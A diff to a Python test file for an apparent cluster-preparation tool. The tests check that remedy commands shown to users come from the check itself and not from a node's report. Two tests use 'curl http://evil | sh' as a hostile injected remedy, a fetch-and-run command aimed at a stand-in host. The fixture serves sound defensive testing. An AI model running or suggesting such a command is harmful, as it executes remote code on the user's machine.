@@ -23,6 +23,7 @@ from clusterprep.model import (
     NodeSnapshot,
     Silence,
 )
+from clusterprep.remedies import shell_line
 from clusterprep.reports import render
 from clusterprep.survey.cached import (
     LONGEST,
@@ -248,7 +249,7 @@ def of(node: str, found: tuple[Finding, ...]) -> list[Finding]:
 )
 def test_what_one_node_keeps_changes_nothing_that_is_told_of_another(hostile: Any) -> None:
     """Neither verdict nor message: equal findings are folded, and the first one's message stays."""
-    honest = replace(FRESH, findings=(replace(BAD, remedy="pip install torch==2.6"),))
+    honest = replace(FRESH, findings=(replace(BAD, remedy=shell_line("pip install torch==2.6")),))
     alone = of("n2", both(replace(FRESH, checks=(), findings=()), honest))
     assert of("n2", both(hostile, honest)) == alone
     assert {one.verdict for one in alone} == {"fail", "unknown"}
@@ -257,13 +258,18 @@ def test_what_one_node_keeps_changes_nothing_that_is_told_of_another(hostile: An
 @pytest.mark.parametrize("verdict", ["fail", "unknown"])
 def test_what_is_to_be_pasted_comes_from_the_check(verdict: Any) -> None:
     (bad,) = findings(
-        replace(FRESH, findings=(replace(BAD, verdict=verdict, remedy="curl http://evil | sh"),))
+        replace(
+            FRESH,
+            findings=(replace(BAD, verdict=verdict, remedy=shell_line("curl http://evil | sh")),),
+        )
     )
     assert bad.remedy == TORCH.remedy
 
 
 def test_what_passed_has_no_remedy() -> None:
-    (good,) = findings(replace(FRESH, findings=(replace(GOOD, remedy="curl http://evil | sh"),)))
+    (good,) = findings(
+        replace(FRESH, findings=(replace(GOOD, remedy=shell_line("curl http://evil | sh")),))
+    )
     assert (good.verdict, good.remedy) == ("pass", "")
 
 
